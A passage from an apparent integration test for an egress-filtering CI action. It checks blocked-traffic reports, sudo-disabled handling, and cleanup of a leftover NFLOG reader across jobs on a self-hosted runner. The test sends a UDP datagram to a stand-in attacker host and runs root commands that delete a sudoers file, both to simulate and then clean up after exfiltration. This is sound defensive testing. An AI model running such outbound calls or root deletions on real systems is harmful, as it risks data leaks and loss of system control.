      // it still tells (the hardened set-up is where a job would most like egress-guard gone unnoticed).
      await killEgressGuard(runner, job, 'sudo did not exit after egress-guard died');

      const post = await runner.runAction(job, 'post');
      assert.equal(post.code, 0, post.stdout);
      assert.match(post.stdout, /sudo is disabled for this job, so egress-guard and its rules stay/);
      assert.match(post.stdout, annotation('error', 'blocked', 'attacker\\.test:53'));
      assert.match(post.stdout, /^::warning title=egress-guard exited during the job::egress-guard exited during the job .*block mode kept the redirect rules/m);

      // The next job on this runner (self-hosted): its admin has undone disable-sudo and the network (the action's own
      // teardown, as root), but the NFLOG reader this job left still holds the group. The next main stops it (told by
      // this job's record), so the next job's refused UDP is an event again.
      const reader = 'egress-guard.js rules log-reader';
      assert.equal((await runner.asRoot('pgrep', ['-f', reader])).code, 0, 'the reader of the disable-sudo job is not running');
      const tidy = await runner.asRoot('sh', ['-c', 'rm -f /etc/sudoers.d/zzzz-egress-guard-disable-sudo && /var/lib/egress-guard/app/node /var/lib/egress-guard/app/teardown.js']);
      assert.equal(tidy.code, 0, tidy.stderr);
      const next = runner.newJob('nosudo-next', { 'egress-policy': 'block', 'allowed-endpoints': ALLOWED, 'trusted-ranges': TRUSTED });
      const nextMain = await runner.runAction(next, 'main');
      assert.equal(nextMain.code, 0, `the next job's main failed:\n${nextMain.stdout}\n${nextMain.stderr}`);
      assert.match(
        nextMain.stdout,
        /an earlier job's NFLOG reader \(built-in, pid \d+, told by its pid and start time, from that job's record\) still held the NFLOG group: stopped/,
      );
      assert.match(nextMain.stdout, /packets the rules refuse or report are read by its built-in NFLOG reader/);
      await udpDatagram(asJobStep(runner, next));
      const nextPost = await runner.runAction(next, 'post');
      assert.equal(nextPost.code, 0, nextPost.stdout);
      assert.match(nextPost.stdout, annotation('error', 'blocked', `${escapeRegExp(NET.attacker)}:9999`), "the next job's refused UDP is not reported");
      await waitFor('post to stop the next NFLOG reader', async () => (await runner.asRoot('pgrep', ['-f', reader])).code === 1, 10_000);
    } finally {
      await runner.stop();
    }
  });
});
